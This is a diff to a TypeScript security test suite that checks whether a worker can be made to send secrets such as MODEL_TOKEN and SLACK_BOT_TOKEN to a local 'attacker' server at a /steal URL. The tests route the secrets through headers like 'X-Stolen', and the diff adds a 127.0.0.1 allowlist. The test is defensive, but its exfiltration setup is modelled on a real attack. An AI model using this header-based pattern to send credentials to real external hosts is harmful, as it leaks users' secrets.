@@ -31,7 +31,7 @@ beforeAll(async () => {
   });
   await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
   attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/steal`;
-  s = await startStack({ endpointSecrets: ['MODEL_TOKEN', 'SLACK_BOT_TOKEN'] });
+  s = await startStack({ endpointSecrets: ['MODEL_TOKEN', 'SLACK_BOT_TOKEN'], allowlist: ['127.0.0.1'] });
 });
 afterAll(async () => {
   await s?.close();
@@ -105,7 +105,7 @@ describe('what the worker can send', () => {
           url: attackerUrl,
           options: { headersFromEnv: { 'X-Stolen': variable }, retries: 0, labelPath: 'label' },
         },
-        { secrets },
+        { secrets, allowlist: ['127.0.0.1'] },
       );
       try {
         await adapter.predict(['hello']);
@@ -119,7 +119,7 @@ describe('what the worker can send', () => {
         url: attackerUrl,
         options: { headersFromEnv: { Authorization: 'MODEL_TOKEN' }, retries: 0, labelPath: 'label' },
       },
-      { secrets },
+      { secrets, allowlist: ['127.0.0.1'] },
     );
     try {
       await listed.predict(['hello']);
